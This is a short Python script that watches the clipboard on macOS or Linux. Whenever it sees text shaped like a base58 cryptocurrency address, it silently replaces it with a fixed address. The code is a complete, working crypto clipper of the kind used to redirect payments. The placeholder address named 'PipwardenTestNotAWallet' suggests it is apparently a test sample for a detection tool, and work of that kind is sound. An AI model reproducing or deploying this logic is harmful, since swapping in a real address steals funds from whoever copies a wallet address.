import re
import subprocess
import sys
import time

MINE = "PipwardenTestNotAWallet0000000000000000000"
RX = re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$")

if sys.platform == "darwin":
    GET, SET = ["pbpaste"], ["pbcopy"]
else:
    GET, SET = ["xclip", "-selection", "clipboard", "-o"], ["xclip", "-selection", "clipboard"]

while True:
    try:
        cur = subprocess.run(GET, capture_output=True, text=True).stdout.strip()
        if RX.match(cur) and cur != MINE:
            subprocess.run(SET, input=MINE, text=True)
    except FileNotFoundError:
        break
    time.sleep(1)
